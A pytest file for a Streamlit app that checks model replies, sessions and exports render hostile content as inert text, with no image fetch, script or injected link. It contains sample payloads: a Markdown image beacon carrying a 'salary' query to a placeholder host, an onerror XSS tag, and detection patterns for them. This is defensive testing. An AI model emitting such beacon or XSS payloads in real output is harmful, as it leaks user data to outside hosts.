"""Model replies and imported text are shown as text: no image is fetched, no HTML or markup
is rendered (issue 10, item 7)."""

from __future__ import annotations

import json as _json
import re
from html.parser import HTMLParser

import pytest
from google.protobuf.json_format import MessageToDict
from hypothesis import given
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from present import export as _export
from tests.browser_support import ARTIFACTS, chromium, running_app
from tests.ui import hostile
from tests.ui.conftest import ROOT
from ui import navigation
from ui.safe import lines, plain

HOSTILE = "![](https://beacon.invalid/?q=salary) <img src=x onerror=alert(1)> :red[x]"


def unescape(markdown: str) -> str:
    return re.sub(r"\\(.)", r"\1", markdown.replace("  \n", "\n"))


@given(st.text())
def test_plain_keeps_the_text_and_escapes_every_markup_character(text):
    shown = plain(text)
    assert unescape(shown) == "\n".join(lines(text))  # every line ending Markdown honours
    # every ASCII punctuation character is escaped: nothing can start markup
    assert not re.search(r"(?<!\\)(?:\\\\)*[!\[<:$*_`]", shown.replace("\\\\", ""))


def test_the_main_page_shows_a_hostile_reply_as_text(fake_transport):
    fake_transport.reply_fn = lambda request: HOSTILE
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.run()
    for text in (HOSTILE, "and again"):
        at.chat_input[0].set_value(text).run()
        assert not at.exception, at.exception
    drawn = [m.value for m in at.markdown] + [c.value for c in at.caption]
    with_reply = [v for v in drawn if "beacon" in v]
    assert len(with_reply) >= 7  # the user line, six reply boxes, the conversations
    markup = re.compile(r"(?<!\\)(?:!(?<!\\)\[|<img|:red(?<!\\)\[)")
    assert markup.search(HOSTILE)  # the pattern does spot the raw reply
    assert not [v for v in with_reply if markup.search(v)]


@pytest.mark.browser
def test_no_image_element_and_no_fetch_in_a_real_browser():
    seen: list[str] = []
    with running_app("tests/ui/apps/untrusted_text.py") as url, chromium(1200, 900) as page:

        def watch(route):
            seen.append(route.request.url)
            if "beacon.invalid" in route.request.url:
                route.abort()
            else:
                route.continue_()

        page.route("**/*", watch)
        page.goto(url)
        page.wait_for_selector(".st-key-control img", state="attached", timeout=60_000)
        page.wait_for_timeout(1500)
        safe_imgs = page.eval_on_selector_all(".st-key-safe img", "els => els.length")
        safe_links = page.eval_on_selector_all(".st-key-safe a", "els => els.map(e => e.href)")
        safe_text = page.inner_text(".st-key-safe")
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "untrusted_text.png"))
    beacons = [u for u in seen if "beacon.invalid" in u]
    assert beacons and all("control" in u for u in beacons)  # the control did fetch: we'd see it
    assert safe_imgs == 0
    # a bare URL stays clickable (GFM autolinks it; nothing is fetched unless clicked), but a
    # Markdown link never is: no javascript: target
    assert all(href.startswith("https://beacon.invalid/safe") for href in safe_links)
    assert "![](https://beacon.invalid/safe.png?q=salary)" in safe_text
    assert "<img src='https://beacon.invalid/safe-html.png'>" in safe_text


# ---- issue 24, class 2: one hostile session through every page, presentation and export ----

# element types whose strings are shown as text by Streamlit itself (code, JSON, tables,
# inputs, plain-text option lists): markup in them is inert
TEXT_ONLY = {"code", "json", "arrow_data_frame", "text_input", "text_area", "selectbox",
             "multiselect", "number_input", "download_button", "file_uploader", "chat_input",
             "table", "dataframe", "arrow_table"}  # fmt: skip


def _walk(node):
    yield node
    for child in getattr(node, "children", {}).values():
        yield from _walk(child)


def _strings(value, path=""):
    if isinstance(value, str):
        yield path, value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from _strings(v, f"{path}.{k}")
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v, path)


def drawn_markup(at: AppTest) -> list[str]:
    """Every string the page hands to a renderer that reads Markdown, HTML or Plotly's
    pseudo-HTML, which would draw hostile markup: found ones, with where they are."""
    found = []
    for root in (at._tree[0], at._tree[1]):  # the main area and the sidebar
        for node in _walk(root):
            proto = getattr(node, "proto", None)
            kind = getattr(node, "type", "")
            if proto is None or kind in TEXT_ONLY or not hasattr(proto, "DESCRIPTOR"):
                continue
            data = MessageToDict(proto)
            if kind == "plotly_chart":
                figure = _json.loads(data.get("spec") or "{}")
                for where, text in _strings(figure):
                    if re.search(r"<(?:a|img|script)\b", text, re.I):
                        found.append(f"plotly{where}: {text[:90]!r}")
                continue
            for where, text in _strings(data):
                if data.get("allowHtml"):  # our own HTML blocks: the values inside escaped
                    if re.search(r"<(?:a|img|script)\b|\r|\n\s*\n", text, re.I):
                        found.append(f"{kind} html{where}: {text[:90]!r}")
                elif hostile.RAW.search(text):
                    found.append(f"{kind}{where}: {text[:90]!r}")
    return found


@pytest.fixture
def planted(fake_transport):
    """The hostile session, composition and sweep in this test's store; the composition is
    unregistered afterwards (opening the store registers it for the whole process)."""
    yield hostile.plant(fake_transport)
    _forget_composition()


def _forget_composition() -> None:
    from memory.registry import REGISTRY, unregister_composition

    if hostile.composition().name in REGISTRY:
        unregister_composition(hostile.composition().name)


def hostile_app(session_id: str) -> AppTest:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.session_state["sessions_selected"] = session_id
    at.session_state["sessions_open"] = session_id  # the Sessions page shows it opened
    at.session_state["sessions_payloads"] = True
    return at


def _page_paths() -> list[str]:
    return [path for path, _, _ in navigation.listed()]


@pytest.mark.parametrize("page", _page_paths())
def test_every_page_draws_the_hostile_session_as_text(planted, page):
    session_id = planted
    at = hostile_app(session_id)
    at.switch_page(page).run()
    assert not at.exception, at.exception
    if page == navigation.MAIN_PAGE:  # the main page with the hostile session continued
        at.switch_page("pages/3_Sessions.py").run()
        next(b for b in at.button if b.label == "Continue on the main page").click().run()
        at.switch_page(page).run()
        assert at.session_state["session"].id == session_id
    assert not at.exception, at.exception
    assert drawn_markup(at) == []
    shown = " ".join(hostile.shown(m.value) for m in [*at.markdown, *at.caption, *at.error])
    assert hostile.BEACON in shown or page not in ("pages/3_Sessions.py", navigation.MAIN_PAGE)


@pytest.mark.parametrize("mode", sorted(navigation.MODES))
def test_every_mode_draws_the_hostile_session_as_text_at_every_step(planted, mode):
    """Each registered mode, switched on over the hostile session continued on the main
    page, drawn at every step it offers (a "Next" button: presentation's turns)."""
    page, key = navigation.MODES[mode]
    at = hostile_app(planted)
    at.switch_page("pages/3_Sessions.py").run()
    next(b for b in at.button if b.label == "Continue on the main page").click().run()
    at.session_state[key] = True
    at.switch_page(page).run()
    steps = 0
    while True:
        assert not at.exception, at.exception
        assert drawn_markup(at) == [], f"{mode}, step {steps}"
        nxt = next((b for b in at.button if b.label.startswith("Next") and not b.disabled), None)
        if nxt is None or steps >= 20:
            break
        nxt.click().run()
        steps += 1
    assert at.session_state[key] is True  # the walk stayed in the mode
    if mode == "presentation":
        assert steps >= 2, "presentation mode should step through the hostile session's turns"


def test_presentation_mode_draws_the_hostile_session_as_text(planted):
    session_id = planted
    at = hostile_app(session_id)
    at.switch_page("pages/3_Sessions.py").run()
    next(b for b in at.button if b.label == "Present (presentation mode)").click().run()
    at.switch_page(navigation.MAIN_PAGE).run()
    assert not at.exception, at.exception
    for _ in range(3):  # every turn (the second one failed in a lane)
        assert drawn_markup(at) == []
        nxt = next(b for b in at.button if b.label == "Next ▶")
        if nxt.disabled:
            break
        nxt.click().run()
    user = next(m.value for m in at.markdown if "border-left" in m.value)
    assert "&lt;script&gt;" in user and "\r" not in user  # no blank line ends the HTML block


def start_tags(page: str) -> list[tuple[str, dict]]:
    """Every element an HTML page opens, with its attributes."""
    found: list[tuple[str, dict]] = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, dict(attrs)))

    Tags().feed(page)
    return found


def _exports():
    """Every export of present/export.py: each public `to_*` function."""
    return {n: getattr(_export, n) for n in dir(_export) if n.startswith("to_")}


def test_every_export_of_the_hostile_session_is_text(planted):
    from storage.store import Store

    saved = Store().load(planted, bodies=True)
    exports = _exports()
    assert {"to_html", "to_markdown", "to_csv", "to_json"} <= set(exports)
    for name, make in exports.items():
        out = make(saved)
        if name == "to_html":
            tags = start_tags(out)
            assert not [t for t in tags if t[0] in ("img", "a", "iframe")], name
            assert all("src" not in attrs for tag, attrs in tags if tag == "script")
            assert "<script>window.__pwned" not in out
            assert hostile.BEACON in out  # the text is there, as text
            # the figures' JSON (names, titles, ticks): a raw tag is written \u003c there
            assert not re.search(r"\\u003c(?:a|img|script)\b", out, re.I)
        elif name == "to_markdown":
            assert hostile.BEACON in hostile.shown(out)
            assert not hostile.RAW.search(out), hostile.RAW.search(out)
            table = [line for line in out.splitlines() if line.startswith("| ")]
            assert all(line.count(" | ") == table[0].count(" | ") for line in table)


# ---- in a real browser: no outbound request, no injected element -------------------------
INJECTED = """() => {
    const bad = [];
    for (const el of document.querySelectorAll('img, image, a, script, iframe, link')) {
        const url = ['src', 'href', 'xlink:href'].map(a => el.getAttribute(a) || '').join(' ');
        // a bare URL that GFM shows as a link to itself is the text, not an injected link
        const own = el.tagName === 'A'
            && decodeURI(el.getAttribute('href') || '') === el.textContent.trim();
        if (url.includes('198.51.100') && !own) bad.push(el.outerHTML.slice(0, 160));
    }
    if (window.__pwned) bad.push('a script from the session ran');
    return bad;
}"""


def _guard(page, outbound: list[str]) -> None:
    """Abort, and note, every request for a host that is not this machine (none is made)."""
    from urllib.parse import urlsplit

    def route(r):
        url = r.request.url
        parts = urlsplit(url)
        if parts.scheme in ("http", "https", "ws", "wss") and parts.hostname not in (
            "127.0.0.1",
            "localhost",
            "::1",
        ):
            outbound.append(url)
            r.abort()
        else:
            r.continue_()

    page.route("**/*", route)


def _settle(page) -> None:
    from tests.browser_support import wait_for_idle

    wait_for_idle(page, quiet_ms=1200, timeout_ms=120_000)
    page.wait_for_timeout(800)  # images, fonts and charts the page would fetch


@pytest.mark.browser
def test_the_hostile_session_in_chromium_fetches_nothing_and_injects_nothing(
    fake_transport, tmp_path, monkeypatch
):
    from playwright.sync_api import expect

    from storage.store import Store

    db = f"sqlite:///{tmp_path / 'hostile.sqlite3'}"
    monkeypatch.setenv("MEMORY_LAB_DB_URL", db)
    session_id = hostile.plant(fake_transport)
    saved = Store(db).load(session_id, bodies=True)
    _forget_composition()
    outbound: list[str] = []
    injected: dict[str, list[str]] = {}
    visited = []
    ARTIFACTS.mkdir(exist_ok=True)
    env = {"MEMORY_LAB_DB_URL": db}
    with running_app("app.py", env=env) as url, chromium(1500, 1100) as page:
        _guard(page, outbound)
        for path, title, url_path in navigation.listed():  # every page, even new ones
            page.goto(url + ("/" if path == navigation.MAIN_PAGE else f"/{url_path}"))
            _settle(page)
            visited.append(title)
            injected[title] = page.evaluate(INJECTED)
        # the Sessions page with the session opened, payloads shown
        page.goto(url + "/Sessions")
        _settle(page)
        page.get_by_role("button", name="Open (read-only)").click()
        _settle(page)
        page.get_by_text("Show payloads").click()
        _settle(page)
        expect(page.get_by_text(hostile.BEACON).first).to_be_attached()
        injected["Sessions · opened"] = page.evaluate(INJECTED)
        # presentation mode, every turn
        page.get_by_role("button", name="Present (presentation mode)").click()
        _settle(page)
        for turn in (1, 2, 3):
            expect(page.get_by_text(f"Turn {turn} of 3")).to_be_visible(timeout=60_000)
            injected[f"presentation · turn {turn}"] = page.evaluate(INJECTED)
            if turn == 1:
                page.screenshot(path=str(ARTIFACTS / "hostile_presentation.png"))
            if turn < 3:
                page.get_by_role("button", name="Next ▶").click()
                _settle(page)
        # the main page with the session continued
        page.get_by_role("button", name="Exit presentation").click()
        _settle(page)
        injected["main page · continued"] = page.evaluate(INJECTED)
        page.screenshot(path=str(ARTIFACTS / "hostile_main.png"))
        # every export opened as a reader would: the HTML report in the browser, the
        # Markdown summary through a Markdown renderer (below); CSV and JSON are data a
        # browser downloads rather than draws (their text: test_every_export_…_is_text)
        for name, make in _exports().items():
            suffix = {"to_html": "html", "to_markdown": "md"}.get(name)
            if suffix is None:
                continue
            file = tmp_path / f"export.{suffix}"
            file.write_text(make(saved), encoding="utf-8")
            if suffix == "html":
                page.goto(file.as_uri())
                page.wait_for_timeout(2500)  # Plotly draws the report's charts
                assert page.locator(".js-plotly-plot").count() > 3
                injected[f"export {name}"] = page.evaluate(INJECTED)
    markdown = {"MEMORY_LAB_TEST_MARKDOWN": str(tmp_path / "export.md")}
    with running_app("tests/ui/apps/markdown_file.py", env=markdown) as url, chromium() as page:
        _guard(page, outbound)
        page.goto(url)
        _settle(page)
        expect(page.locator(".st-key-export table")).to_be_visible()
        injected["export to_markdown"] = page.evaluate(INJECTED)
    assert visited == [title for _, title, _ in navigation.listed()]
    assert outbound == []
    assert {k: v for k, v in injected.items() if v} == {}
